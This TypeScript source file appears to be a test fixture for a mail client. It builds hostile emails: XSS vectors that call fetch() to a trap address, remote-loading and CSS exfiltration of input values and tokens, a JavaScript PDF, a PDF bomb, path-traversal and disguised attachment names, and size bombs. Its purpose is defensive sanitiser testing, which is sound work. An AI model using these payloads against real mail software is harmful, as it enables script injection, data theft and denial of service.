/** Messages made to harm whoever opens them. Every address in them leads to `trap`, which counts who comes. */

export interface Hostile {
  subject: string
  bytes: Buffer
}

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

export function hostileMail(trap: string): Hostile[] {
  const url = (what: string) => `${trap}/${what}`
  const run = `document.title='pwned';parent.pwned=1;top.pwned=1;fetch('${url('script')}')`
  return [
    html('Scripts', scripts(run, url)),
    html('Things that load by HTML', loading(url)),
    html('Things that load by CSS', styling(url)),
    html('Things that load by SVG and MathML', drawing(url, run)),
    html('Going elsewhere by itself', leaving(url, run)),
    html(
      'Forms',
      `<form action="${url('form')}" id=f><input name=a value=secret autofocus onfocus="f.submit()"><button>Go</button></form><input type=image src="${url('input')}" formaction="${url('formaction')}">`,
    ),
    html('Reading what is on the page by CSS', exfiltration(url)),
    html(
      'Closing what is around it',
      `</style></script></body></html></iframe></div><script>${run}</script>"><img src=x onerror="${run}">\`--!><svg onload="${run}">`,
    ),
    html('A hundred thousand open tags', `<p>start</p>${'<div><b>'.repeat(100_000)}end`),
    html('A table of tables', `${'<table><tr><td>'.repeat(20_000)}end`),
    html('A megabyte of attributes', `<p ${'a=b '.repeat(250_000)} onclick="${run}">x</p>`),
    html('A megabyte of CSS', `<style>${'p{color:red}'.repeat(90_000)}</style><p>x</p><p style="${'color:red;'.repeat(50_000)}">y</p>`),
    html(
      'One image ten thousand times',
      '<img src="cid:a">'.repeat(10_000),
      part('image/png', 'a.png', Buffer.alloc(3_000_000, 1), 'Content-ID: <a>\r\n'),
    ),
    {
      subject: 'A hundred thousand headers',
      bytes: text(`${head('A hundred thousand headers')}${'X-Header: value\r\n'.repeat(100_000)}\r\nbody\r\n`),
    },
    {
      subject: 'A line without end',
      bytes: text(`${head('A line without end')}X-Long: ${'x'.repeat(3_000_000)}\r\n\r\n${'y'.repeat(2_000_000)}`),
    },
    { subject: 'Parts within parts', bytes: nested(3_000) },
    { subject: 'Messages within messages', bytes: innerMessages(2_000) },
    {
      subject: 'Ten thousand parts',
      bytes: text(
        `${head('Ten thousand parts')}Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\nx\r\n'.repeat(12_000)}--b--\r\n`,
      ),
    },
    { subject: 'Names', bytes: names() },
    { subject: 'Attachments that are not what they seem', bytes: attachments(trap) },
    { subject: 'Calendars and cards without end', bytes: cards() },
  ]
}

/** Names of the attachments of "Names": each would do harm somewhere. */
export const badNames = [
  '../../../../tmp/mailcoffer-escaped',
  '..\\..\\windows\\escaped.dll',
  '/etc/mailcoffer-escaped',
  'C:\\mailcoffer-escaped.exe',
  'zero\u0000byte.txt',
  'line\r\nbreak.txt',
  'invoice\u202efdp.exe',
  'report.pdf                                             .exe',
  'CON',
  'aux.txt',
  '.bashrc',
  '.',
  '..',
  '~',
  'x'.repeat(4000),
  '名'.repeat(400),
  'a:stream.txt',
  '%2e%2e%2fescaped',
  '',
]

function scripts(run: string, url: (what: string) => string): string {
  const events =
    'onload onerror onclick onmouseover onfocus onanimationstart ontransitionend onpointerenter ontoggle onbeforeinput onscroll onwheel'.split(' ')
  return [
    `<script>${run}</script><script src="${url('src.js')}"></script><script type=module src="${url('module.js')}"></script>`,
    `<SCRIPT/XSS SRC="${url('x.js')}"></SCRIPT><scr<script>ipt>${run}</scr</script>ipt>`,
    ...events.map(
      event =>
        `<p ${event}="${run}" style="animation:x 1s;transition:all 1s">x</p><img src=x ${event}="${run}"><details open ${event}="${run}">x</details>`,
    ),
    `<a href="javascript:${run}">x</a><a href="jav&#x09;ascript:${run}">x</a><a href=" &#14;javascript:${run}">x</a><a href="data:text/html,<script>${run}</script>">x</a><a href="vbscript:x">x</a>`,
    `<iframe srcdoc="<script>${run}</script>"></iframe><iframe src="javascript:${run}"></iframe><object data="data:text/html,<script>${run}</script>"></object>`,
    `<template shadowrootmode=open><script>${run}</script></template><noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<!--[if gte IE 5]><script>${run}</script><![endif]--><?xml-stylesheet href="javascript:${run}"?><xml><script>${run}</script></xml>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s><set onbegin="${run}"></svg><body onload="${run}"><marquee onstart="${run}">x</marquee>`,
  ].join('\n')
}

function loading(url: (what: string) => string): string {
  return [
    `<img src="${url('img')}" srcset="${url('srcset')} 2x" lowsrc="${url('lowsrc')}" dynsrc="${url('dynsrc')}" longdesc="${url('longdesc')}">`,
    `<img src="${url('img').replace('http:', '')}"><img src=" ${url('space')}"><img src="/relative"><img src="//relative.example/x">`,
    `<picture><source srcset="${url('source')}"><img src="${url('picture')}"></picture>`,
    `<video src="${url('video')}" poster="${url('poster')}" autoplay><track src="${url('track')}" default><source src="${url('vsource')}"></video><audio src="${url('audio')}" autoplay></audio><bgsound src="${url('bgsound')}">`,
    `<embed src="${url('embed')}"><object data="${url('object')}"><param name=movie value="${url('param')}"></object><applet code="${url('applet')}"></applet>`,
    `<iframe src="${url('iframe')}"></iframe><frameset><frame src="${url('frame')}"></frameset><portal src="${url('portal')}"></portal><webview src="${url('webview')}"></webview>`,
    ...'stylesheet icon preload prefetch preconnect dns-prefetch modulepreload manifest prerender import alternate'
      .split(' ')
      .map(rel => `<link rel="${rel}" href="${url(`link-${rel}`)}" as=image>`),
    `<body background="${url('body')}"><table background="${url('table')}"><tr background="${url('tr')}"><td background="${url('td')}">x</td></tr></table>`,
    `<a href="${url('a')}" ping="${url('ping')}">a link</a><area href="${url('area')}"><base href="${url('base/')}"><img src="relative-to-base">`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url('speculation')}"]}]}</script>`,
    `<meta http-equiv="Link" content="<${url('meta-link')}>; rel=preload; as=image"><meta http-equiv="Content-Security-Policy" content="report-uri ${url('csp')}; default-src 'none'">`,
  ].join('\n')
}

function styling(url: (what: string) => string): string {
  const properties =
    'background background-image list-style list-style-image content cursor border-image border-image-source mask mask-image -webkit-mask-image clip-path filter shape-outside offset-path src behavior -moz-binding fill stroke marker-start'.split(
      ' ',
    )
  const values = [
    "url('U')",
    'url(U)',
    'url( "U" )',
    'u\\72l(U)',
    '\\75rl(U)',
    'ur\\6c("U")',
    'image-set("U" 1x)',
    '-webkit-image-set(url(U) 1x)',
    'cross-fade(url(U), url(U))',
    'image("U")',
    'src("U")',
    'element(#U)',
    '/**/url/**/(U)',
    'var(--u)',
    'attr(data-u url)',
    'expression(U)',
  ]
  const declarations = properties.flatMap((property, i) => values.map((value, j) => `${property}:${value.replaceAll('U', url(`css-${i}-${j}`))}`))
  return [
    `<style>@import "${url('import')}";@import url(${url('import-url')}) screen;@font-face{font-family:x;src:url(${url('font')})}@namespace url(${url('namespace')});@page{background:url(${url('page')})}`,
    `@counter-style c{system:cyclic;symbols:url(${url('counter')})}@property --u{syntax:"<url>";inherits:true;initial-value:url(${url('property')})}:root{--u:url(${url('var')})}`,
    `@media all{@supports (color:red){@layer a{p{background:url(${url('nested')})}}}}p{&:hover{background:url(${url('nesting')})}}`,
    `*{font-family:x}p::before{content:url(${url('before')})}${declarations.map(declaration => `p{${declaration}}`).join('\n')}</style>`,
    `<STYLE type="text/css"><!-- p{background:url(${url('comment')})} --></STYLE>`,
    ...declarations.map(declaration => `<p style='${declaration.replaceAll("'", '&#39;')}' data-u="${url('attr')}">x</p>`),
  ].join('\n')
}

function drawing(url: (what: string) => string, run: string): string {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image href="${url('svg-image')}" xlink:href="${url('svg-xlink')}"/><use href="${url('svg-use')}#a"/><feImage href="${url('svg-feimage')}"/><script href="${url('svg-script')}">${run}</script><style>@import url(${url('svg-import')});</style><foreignObject><iframe src="${url('svg-frame')}"></iframe><img src="${url('svg-img')}"></foreignObject><a href="javascript:${run}"><text>x</text></a><text fill="url(${url('svg-fill')})">x</text><animate attributeName="href" values="${url('svg-animate')}"/></svg>`
  return [
    svg,
    `<img src="data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}"><img src='data:image/svg+xml,${encodeURIComponent(svg)}'>`,
    `<p style="background:url('data:image/svg+xml;base64,${Buffer.from(svg).toString('base64')}')">x</p>`,
    `<math href="${url('math')}"><mi xlink:href="${url('math-xlink')}">x</mi><maction actiontype="statusline#${url('math-status')}">x</maction></math>`,
  ].join('\n')
}

function leaving(url: (what: string) => string, run: string): string {
  return [
    `<meta http-equiv="refresh" content="0; url=${url('refresh')}"><meta http-equiv="refresh" content="0; url=javascript:${run}"><meta http-equiv=set-cookie content="a=b">`,
    `<iframe src="${url('frame')}" onload="top.location='${url('top')}'"></iframe><a href="${url('target')}" target="_top" id=a>x</a><a href="${url('download')}" download>x</a>`,
    `<base target="_top"><isindex action="${url('isindex')}"><menu><menuitem onclick="${run}">x</menuitem></menu>`,
  ].join('\n')
}

function exfiltration(url: (what: string) => string): string {
  const letters = 'abcdefghijklmnopqrstuvwxyz0123456789'
  const rules = [...letters].map(
    c => `input[value^="${c}"]{background:url(${url(`value-${c}`)})}a[href*="${c}"]::after{content:url(${url(`href-${c}`)})}`,
  )
  return `<style>${rules.join('')}@font-face{font-family:l;src:url(${url('range')});unicode-range:U+41}p{font-family:l}:visited{background:url(${url('visited')})}#a:target{background:url(${url('target')})}body:has(p){background:url(${url('has')})}</style><input value="secret"><p>ABC</p><a href="https://example.org/?token=secret">x</a>`
}

const head = (subject: string) =>
  `From: Mallory <mallory@example.org>\r\nTo: ada@example.org\r\nDate: Mon, 2 Mar 2026 10:00:00 +0000\r\nMessage-ID: <${subject.replaceAll(' ', '.')}@hostile.example>\r\nSubject: ${subject}\r\n`
const text = (all: string): Buffer => Buffer.from(all)

function html(subject: string, body: string, ...parts: string[]): Hostile {
  const page = `Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${lines(Buffer.from(`<html><body>${body}</body></html>`))}\r\n`
  if (parts.length === 0) return { subject, bytes: text(head(subject) + page) }
  return {
    subject,
    bytes: text(`${head(subject)}Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\n${page}--b\r\n${parts.join('--b\r\n')}--b--\r\n`),
  }
}

const lines = (bytes: Buffer): string => bytes.toString('base64').replace(/.{76}/g, '$&\r\n')

function part(type: string, name: string, bytes: Buffer, more = ''): string {
  // RFC 2231, so that any character can stand in a name.
  const encoded = [...Buffer.from(name)].map(byte => `%${byte.toString(16).padStart(2, '0')}`).join('')
  return `Content-Type: ${type}\r\nContent-Disposition: attachment; filename*=utf-8''${encoded}\r\nContent-Transfer-Encoding: base64\r\n${more}\r\n${lines(bytes)}\r\n`
}

function mixed(subject: string, parts: string[]): Buffer {
  return text(`${head(subject)}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nSee below.\r\n--b\r\n${parts.join('--b\r\n')}--b--\r\n`)
}

const names = (): Buffer =>
  mixed(
    'Names',
    badNames.map((name, i) => part('application/octet-stream', name, Buffer.from(`content ${i}`))),
  )

function attachments(trap: string): Buffer {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>top.pwned=1</script><image href="${trap}/svg-attachment"/></svg>`
  const page = `<html><script>top.pwned=1</script><img src="${trap}/html-attachment"></html>`
  const inner = `From: x@example.org\r\nSubject: Inner\r\nContent-Type: text/html\r\n\r\n<script>top.pwned=1</script><img src="${trap}/inner">inner text`
  return mixed('Attachments that are not what they seem', [
    part('image/svg+xml', 'drawing.svg', Buffer.from(svg)),
    part('text/html', 'page.html', Buffer.from(page)),
    part('application/pdf', 'script.pdf', scriptPdf(trap)),
    part('application/pdf', 'bomb.pdf', bombPdf()),
    part('application/pdf', 'really.pdf', Buffer.from('MZ\x90\0this is a program', 'latin1')),
    part('image/png', 'huge.png', hugePng()),
    part('message/rfc822', 'inner.eml', Buffer.from(inner)),
    part('text/plain', 'long.txt', Buffer.alloc(4_000_000, 'a')),
    part('image/png', 'dot.png', Buffer.from(PNG, 'base64')),
  ])
}

/** Runs JavaScript, opens an address, and submits a form as it is opened, in programs that let it. */
function scriptPdf(trap: string): Buffer {
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${trap}/pdf-js"\\); this.submitForm\\("${trap}/pdf-submit"\\)) >> /AA << /WC << /S /URI /URI (${trap}/pdf-aa) >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${trap}/pdf-link) >> >>] >>`,
    stream('0.8 0.2 0.2 rg 20 20 260 160 re f'),
  ])
}

/** One page whose picture is itself, drawn ten times in each of ten levels: ten thousand million squares. */
function bombPdf(): Buffer {
  const levels = Array.from({ length: 10 }, (_, i) => {
    const next = i < 9 ? `/XObject << /X ${6 + i} 0 R >>` : ''
    const content = i < 9 ? '/X Do '.repeat(10) : '0 0 1 rg 0 0 10 10 re f'
    return `<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << ${next} >> /Length ${content.length} >>\nstream\n${content}\nendstream`
  })
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 20000000 20000000] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
    stream('/X Do'),
    ...levels,
  ])
}

const stream = (content: string) => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`

function pdf(objects: string[]): Buffer {
  let out = '%PDF-1.7\n'
  const offsets = objects.map((object, i) => {
    const at = out.length
    out += `${i + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const xref = out.length
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map(at => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`
  return Buffer.from(out, 'latin1')
}

/** Says that it is 30,000 pixels square, in a hundred bytes. */
function hugePng(): Buffer {
  const png = Buffer.from(PNG, 'base64')
  png.writeUInt32BE(30_000, 16)
  png.writeUInt32BE(30_000, 20)
  return png
}

function nested(depth: number): Buffer {
  let out = head('Parts within parts')
  for (let i = 0; i < depth; i++) out += `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\n`
  return text(`${out}\r\nthe innermost\r\n`)
}

function innerMessages(depth: number): Buffer {
  return text(
    `${head('Messages within messages')}Content-Type: message/rfc822\r\n\r\n${'Content-Type: message/rfc822\r\nSubject: inner\r\n\r\n'.repeat(depth)}text\r\n`,
  )
}

function cards(): Buffer {
  const events = `BEGIN:VCALENDAR\r\n${'BEGIN:VEVENT\r\nSUMMARY:x\r\nDTSTART;TZID=Europe/Warsaw:20260101T000000\r\nATTENDEE:mailto:a@example.org\r\n'.repeat(3_000)}`
  return mixed('Calendars and cards without end', [
    `Content-Type: text/calendar\r\n\r\n${events}\r\n`,
    `Content-Type: text/vcard\r\n\r\n${'BEGIN:VCARD\r\nFN:x\r\n'.repeat(5_000)}END:VCARD\r\n`,
    `Content-Type: text/calendar\r\n\r\nBEGIN:VEVENT\r\nSUMMARY:${'"'.repeat(100_000)};;;${'\\'.repeat(100_000)}\r\nRRULE:${'FREQ='.repeat(10_000)}\r\nEND:VEVENT\r\n`,
  ])
}
